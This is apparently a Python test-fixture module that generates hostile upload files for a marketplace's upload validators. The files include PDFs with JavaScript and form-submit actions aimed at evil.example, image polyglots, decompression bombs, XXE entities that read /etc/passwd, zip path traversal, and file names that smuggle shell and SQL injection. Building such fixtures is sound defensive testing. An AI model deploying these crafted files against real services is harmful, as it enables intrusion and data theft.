"""Hostile files, drawn by the tests themselves: what is sent to a market by those who want in.

Each is a name and bytes, by the field it is sent to: a paper, a picture, or a table of goods. `MARK` stands in what
would run, so that a test can say that nothing of it was kept.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator
from typing import Any, NamedTuple

from PIL import Image

from core.tests.papers import bomb, drawn, packed, pdf

MARK = b"alert('mark-of-a-stranger')"
SCRIPT = b"<script>" + MARK + b"</script>"
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


class Hostile(NamedTuple):
    """A file: what is wrong with it, what it is called, and its bytes."""

    why: str
    name: str
    body: bytes


def papers() -> list[Hostile]:
    """For where a PDF, JPEG or PNG is expected."""
    return [*_pdfs(), *pictures()]


def pictures() -> list[Hostile]:
    """For where a picture is expected."""
    return [*_polyglots(), *_bombs(), *_disguised(), *_cut(), *_named(), *_talking()]


def tables() -> list[Hostile]:
    """For where CSV or XLSX is expected."""
    return [*_workbooks(), *_texts()]


def _pdfs() -> Iterator[Hostile]:
    action = b"9 0 obj << /S /JavaScript /JS (" + MARK + b") >> endobj"
    acts = {
        "javascript": action,
        "javascript by escapes": action.replace(b"/JavaScript", b"/J#61vaScrip#74"),
        "javascript in a comment's shadow": b"% stream\n" + action + b"\n% endstream",
        "launch": b"9 0 obj << /S /Launch /F (cmd.exe) >> endobj",
        "launch by escapes": b"9 0 obj << /S /#4caunch /F (cmd.exe) >> endobj",
        "embedded file": b"9 0 obj << /Type /EmbeddedFile >> stream\nMZ\nendstream endobj",
        "names of embedded files": b"9 0 obj << /Names << /EmbeddedFiles 8 0 R >> >> endobj",
        "file attachment": b"9 0 obj << /Subtype /FileAttachment /FS 8 0 R >> endobj",
        "rich media": b"9 0 obj << /Subtype /RichMedia >> endobj",
        "rendition with a script": b"9 0 obj << /S /Rendition /JS (" + MARK + b") >> endobj",
        "xfa form": b"9 0 obj << /AcroForm << /XFA 8 0 R >> >> endobj",
        "encrypted": b"trailer << /Encrypt 9 0 R >>",
        "encrypted by escapes": b"trailer << /#45ncrypt 9 0 R >>",
        "form that sends itself": b"9 0 obj << /S /SubmitForm /F (http://evil.example) >> endobj",
        "data from outside": b"9 0 obj << /S /ImportData /F (a.fdf) >> endobj",
        "another document, embedded": b"9 0 obj << /S /GoToE /T << >> >> endobj",
        "another document, remote": b"9 0 obj << /S /GoToR /F (\\\\evil\\share) >> endobj",
        "ten thousand pages": b"9 0 obj << /Type /Page >> endobj\n" * 10_000,
        "ten thousand pages, promised": b"9 0 obj << /Type /Pages /Count 10000 /Kids [8 0 R] >> endobj",
        "ten thousand pages, packed": packed(b"<< /Type /Page >>\n" * 10_000),
        "a cloud of escapes": b"#41" * 1_000_000,
        "many packed streams": packed(b"0") * 6_000,
        "many streams": b"1 0 obj << >> stream\n\nendstream\n" * 21_000,
        "a comment that looks like an object": b"9 0 obj << /Type /ObjStm % 1 0 obj\n >> stream\nx\nendstream",
    }
    for why, extra in acts.items():
        yield Hostile(f"pdf: {why}", "licence.pdf", pdf(extra))
    yield from _packed_pdfs(b"<< /S /JavaScript /JS (" + MARK + b") >>")
    whole = pdf()
    yield Hostile("pdf: bytes before it", "licence.pdf", SCRIPT + whole)
    yield Hostile("pdf: html at heart", "licence.pdf", b"<html>" + SCRIPT + b"%PDF-1.7\n%%EOF")
    yield Hostile("pdf: only a header", "licence.pdf", b"%PDF-1.7\n")
    yield Hostile("pdf: no header", "licence.pdf", whole[9:])
    for part in range(1, 8):
        yield Hostile(f"pdf: cut at {part}/8", "licence.pdf", whole[: len(whole) * part // 8])
    yield Hostile("pdf: called a picture", "licence.png", whole)
    yield Hostile("pdf: called html", "licence.html", whole)
    yield Hostile("pdf: two endings, the last wrong", "licence.pdf.exe", whole)


def _packed_pdfs(action: bytes) -> Iterator[Hostile]:
    """The same script, in a stream of objects, by every way of writing one."""
    deflated = zlib.compress(action)
    stored = zlib.compress(b"endstream " + b"0" * 99 + action, 0)
    twice = zlib.compress(deflated)
    shapes: dict[str, tuple[bytes, bytes]] = {
        "deflated": (b"/Type /ObjStm /Filter /FlateDecode", deflated),
        "deflated, in short": (b"/Type /ObjStm /F /Fl", deflated),
        "deflated, in a list": (b"/Type /ObjStm /Filter [ /FlateDecode ]", deflated),
        "type by escapes": (b"/Type /Obj#53tm /Filter /FlateDecode", deflated),
        "filter by escapes": (b"/Type /ObjStm /Filter /Fl#61teDecode", deflated),
        "without a type": (b"/N 1 /First 4 /Filter /FlateDecode", deflated),
        "a false end inside": (b"/Type /ObjStm /Filter /FlateDecode", stored),
        "deflated twice": (b"/Type /ObjStm /Filter [/FlateDecode /FlateDecode]", twice),
        "two filters": (b"/Type /ObjStm /Filter /FlateDecode /Filter /ASCIIHexDecode", deflated),
        "in hexadecimal": (b"/Type /ObjStm /Filter /ASCIIHexDecode", action.hex().encode() + b">"),
        "by another filter": (b"/Type /ObjStm /Filter /LZWDecode", b"\x80\x0b\x60"),
        "filter told elsewhere": (b"/Type /ObjStm /Filter 7 0 R", deflated),
        "with a predictor": (
            b"/Type /ObjStm /DecodeParms << /Predictor 12 >> /Filter /FlateDecode",
            deflated,
        ),
        "long facts before it": (b"/Type /ObjStm /X (" + b"y" * 5000 + b") /Filter /FlateDecode", deflated),
        "plain": (b"/Type /ObjStm", action),
        "damaged": (b"/Type /ObjStm /Filter /FlateDecode", deflated[:9] + b"\xff" * 40),
        "a bomb": (b"/Type /ObjStm /Filter /FlateDecode", zlib.compress(b"0" * (40 << 20), 9)),
    }
    for why, (facts, stream) in shapes.items():
        extra = b"9 0 obj\n<< " + facts + b" >>\nstream\n" + stream + b"\nendstream\nendobj"
        yield Hostile(f"pdf: packed, {why}", "licence.pdf", pdf(extra))


def _polyglots() -> Iterator[Hostile]:
    """Pictures that are something else too. They decode, so they are kept, drawn anew."""
    for kind, suffix in (("PNG", "png"), ("JPEG", "jpg")):
        whole = drawn(kind)
        yield Hostile(f"{kind}: html after the end", f"a.{suffix}", whole + SCRIPT)
        yield Hostile(f"{kind}: an archive after the end", f"a.{suffix}", whole + _zip({"a.js": MARK}))
        yield Hostile(f"{kind}: a PDF after the end", f"a.{suffix}", whole + pdf(MARK))
        yield Hostile(f"{kind}: php after the end", f"a.{suffix}", whole + b"<?php " + MARK)
    yield Hostile("PNG: html in a comment", "a.png", _with_chunk(b"tEXt", b"Comment\0" + SCRIPT))
    yield Hostile("PNG: html in a private chunk", "a.png", _with_chunk(b"prVt", SCRIPT))
    yield Hostile("PNG: script in a profile", "a.png", drawn("PNG", icc_profile=SCRIPT))
    yield Hostile("JPEG: html in a comment", "a.jpg", drawn("JPEG", comment=SCRIPT))
    yield Hostile("GIF/JS", "a.gif", b"GIF89a/*" + b"\0" * 20 + b"*/=1;" + MARK)
    yield Hostile("GIF/JS called a PNG", "a.png", b"GIF89a/*" + b"\0" * 20 + b"*/=1;" + MARK)
    yield Hostile("html with a PNG header", "a.png", b"\x89PNG\r\n\x1a\n" + SCRIPT)
    yield Hostile("html with a JPEG header", "a.jpg", b"\xff\xd8\xff\xe0\x00\x10JFIF\0" + SCRIPT)


def _bombs() -> Iterator[Hostile]:
    for width, height in ((50_000, 50_000), (10_001, 1), (1, 10_001), (5_001, 5_000), (2**31 - 1, 2**31 - 1)):
        yield Hostile(f"PNG: {width} x {height} pixels promised", "a.png", bomb(width, height))
    yield Hostile("PNG: no pixels", "a.png", bomb(0, 0))
    yield Hostile("PNG: pixels that swell", "a.png", _png(64, 64, zlib.compress(b"\0" * (50 << 20), 9)))
    note = b"Comment\0\0" + zlib.compress(b"x" * (50 << 20), 9)
    yield Hostile("PNG: a comment that swells", "a.png", _with_chunk(b"zTXt", note))
    profile = b"p\0\0" + zlib.compress(b"x" * (50 << 20), 9)
    yield Hostile("PNG: a profile that swells", "a.png", _with_chunk(b"iCCP", profile))
    jpeg = bytearray(drawn("JPEG"))
    at = jpeg.index(b"\xff\xc0") + 5
    jpeg[at : at + 4] = struct.pack(">HH", 65_000, 65_000)
    yield Hostile("JPEG: 65,000 x 65,000 pixels promised", "a.jpg", bytes(jpeg))
    yield Hostile("more than 10 MB", "a.png", drawn() + b"\0" * (10 << 20))


def _disguised() -> Iterator[Hostile]:
    """Other kinds under an allowed name, and allowed kinds under another."""
    for kind in ("GIF", "TIFF", "ICO", "BMP", "PPM", "TGA", "WEBP", "EPS"):
        yield Hostile(f"{kind} called a PNG", "a.png", drawn(kind))
    svg = b'<svg xmlns="http://www.w3.org/2000/svg" onload="' + MARK + b'"/>'
    bodies = {
        "SVG": svg,
        "SVG with a prologue": b'<?xml version="1.0"?><!DOCTYPE svg>' + svg,
        "HTML": b"<!doctype html>" + SCRIPT,
        "an application for Internet Explorer": b"<html><HTA:APPLICATION/>" + SCRIPT,
        "a program": b"MZ" + b"\0" * 58 + struct.pack("<I", 64) + b"PE\0\0" + MARK,
        "a program for Linux": b"\x7fELF\x02\x01\x01" + b"\0" * 60,
        "a script": b"#!/bin/sh\n" + MARK,
        "an archive": _zip({"a.html": SCRIPT}),
        "an office document": _zip({"word/document.xml": SCRIPT, "word/vbaProject.bin": MARK}),
        "an old office document": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
        "XML with an entity": b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
        "PostScript": b"%!PS-Adobe-3.0 EPSF-3.0\n(" + MARK + b") run",
        "a shortcut": b"[InternetShortcut]\nURL=javascript:" + MARK,
        "zero bytes": b"",
        "NULs": b"\0" * 4096,
        "noise": bytes(range(256)) * 16,
    }
    for why, body in bodies.items():
        yield Hostile(f"{why} called a PNG", "a.png", body)
    for name in (
        "a.svg",
        "a.html",
        "a.png.html",
        "a.php",
        "a.exe",
        "a",
        "a.",
        "png",
        "a.png;.html",
        "a.png%00.html",
    ):
        yield Hostile(f"a PNG called {name}", name, drawn())
    yield Hostile("SVG under its own name", "a.svg", svg)


def _cut() -> Iterator[Hostile]:
    for kind, suffix in (("PNG", "png"), ("JPEG", "jpg")):
        whole = drawn(kind)
        for part in range(1, 8):
            yield Hostile(f"{kind}: cut at {part}/8", f"a.{suffix}", whole[: len(whole) * part // 8])


def _named() -> Iterator[Hostile]:
    """Good pictures with bad names: kept, under a name of our own."""
    for name in (
        "../../../etc/cron.d/a.png", "..\\..\\windows\\a.png", "/etc/passwd.png", "a\0.html.png", "a.html\0.png",
        "\u202egnp.lmth.png", "a\r\nSet-Cookie: x=1.png", "<img src=x onerror=alert(1)>.png", "x" * 5000 + ".png",
        "CON.png", ".htaccess.png", "a.php.png", "~root.png", "$(id).png", "' OR 1=1 --.png", "\ud800.png",
    ):  # fmt: skip
        yield Hostile(f"a name: {name[:40]!r}", name, drawn())


def _talking() -> Iterator[Hostile]:
    """What cameras and people write into pictures."""
    for tag, what in ((0x010F, "maker"), (0x9286, "comment"), (0x8298, "copyright"), (0x010E, "description")):
        facts: Any = Image.Exif()
        facts[tag] = SCRIPT.decode()
        yield Hostile(f"JPEG: script as its {what}", "a.jpg", drawn("JPEG", exif=facts))
    place: Any = Image.Exif()
    place[0x8825] = {1: "N", 2: (25.0, 12.0, 17.0)}
    yield Hostile("JPEG: where it was taken", "a.jpg", drawn("JPEG", exif=place, comment=MARK))


def _workbooks() -> Iterator[Hostile]:
    sheet = (
        b'<worksheet><sheetData><row><c t="inlineStr"><is><t>%s</t></is></c></row></sheetData></worksheet>'
    )
    entity = b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    laughs = b'<!DOCTYPE a [<!ENTITY a "' + b"ha" * 50 + b'">' + b"".join(
        b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 20) for n in range(8)
    ) + b"]>"  # fmt: skip
    book = b'<workbook><sheets><sheet name="a" sheetId="1"/></sheets></workbook>'
    plain = {"xl/workbook.xml": book, "[Content_Types].xml": b"<Types/>"}
    parts: dict[str, dict[str, bytes]] = {
        "a sheet that swells": {**plain, "xl/worksheets/sheet1.xml": b" " * (60 << 20)},
        "many sheets that swell": {
            **plain,
            **{f"xl/worksheets/s{n}.xml": b" " * (2 << 20) for n in range(30)},
        },
        "many parts": {**plain, **{f"xl/a{n}.xml": b"<a/>" for n in range(1000)}},
        "an entity from outside": {**plain, "xl/worksheets/sheet1.xml": entity + sheet % b"&x;"},
        "entities of entities": {**plain, "xl/sharedStrings.xml": laughs + sheet % b"&i;"},
        "an entity in the book": {**plain, "xl/workbook.xml": entity + book},
        "traversal in the archive": {**plain, "../../../../tmp/mark-of-a-stranger": MARK},
        "macros": {**plain, "xl/vbaProject.bin": MARK},
        "a link elsewhere": {
            **plain,
            "xl/externalLinks/externalLink1.xml": b'<externalLink Target="http://evil"/>',
        },
        "no book": {"a.txt": MARK},
        "a document": {"word/document.xml": SCRIPT},
    }
    for why, files in parts.items():
        yield Hostile(f"XLSX: {why}", "goods.xlsx", _zip(files))
    whole = _zip(plain)
    for part in (1, 3, 5, 7):
        yield Hostile(f"XLSX: cut at {part}/8", "goods.xlsx", whole[: len(whole) * part // 8])
    yield Hostile("XLSX: a header alone", "goods.xlsx", b"PK\x03\x04")
    yield Hostile("XLSX: called CSV", "goods.csv", whole)
    yield Hostile("XLSX: called a macro book", "goods.xlsm", whole)


def _texts() -> Iterator[Hostile]:
    head = b"code,name,price\n"
    bodies = {
        "NULs": head + b"P1001,\0\0\0,1\n",
        "a program": b"MZ" + bytes(range(256)),
        "no UTF-8": head + b"P1001,\xff\xfe\xfa,1\n",
        "a field without end": head + b'P1001,"' + b"x" * 300_000,
        "a million columns": b"," * 1_000_000,
        "many rows": head + b"P1001,a,1\n" * 100_000,
        "html": b"<html>" + SCRIPT,
        "lone surrogates": head + b"P1001,\xed\xa0\x80,1\n",
        "nothing but a mark": b"\xef\xbb\xbf",
        "half of UTF-16": b"\xff\xfeP",
        "more than 2 MB": head + b"x" * (3 << 20),
    }
    for why, body in bodies.items():
        yield Hostile(f"CSV: {why}", "goods.csv", body)
    yield Hostile("CSV: called html", "goods.html", head)


def _zip(files: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, body in files.items():
            archive.writestr(name, body)
    return out.getvalue()


def _chunk(name: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))


def _with_chunk(name: bytes, body: bytes) -> bytes:
    """A good PNG with one chunk more, right after its header."""
    whole = drawn()
    return whole[:33] + _chunk(name, body) + whole[33:]


def _png(width: int, height: int, pixels: bytes) -> bytes:
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    parts = _chunk(b"IHDR", header) + _chunk(b"IDAT", pixels) + _chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + parts
